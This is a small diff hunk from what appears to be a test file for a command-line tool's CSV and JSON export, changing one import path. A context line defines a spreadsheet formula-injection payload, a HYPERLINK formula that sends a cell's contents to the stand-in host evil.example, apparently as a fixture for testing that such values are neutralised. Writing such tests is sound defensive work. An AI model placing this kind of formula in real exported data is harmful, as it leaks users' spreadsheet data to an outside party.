@@ -19,7 +19,7 @@ from click.testing import CliRunner
 
 from conftest import REGISTRY, write
 from kb.cli import main
-from kb.formats import formula_like, inert, to_csv, to_json
+from kb.util.formats import formula_like, inert, to_csv, to_json
 from sitekit import copy_site_files
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
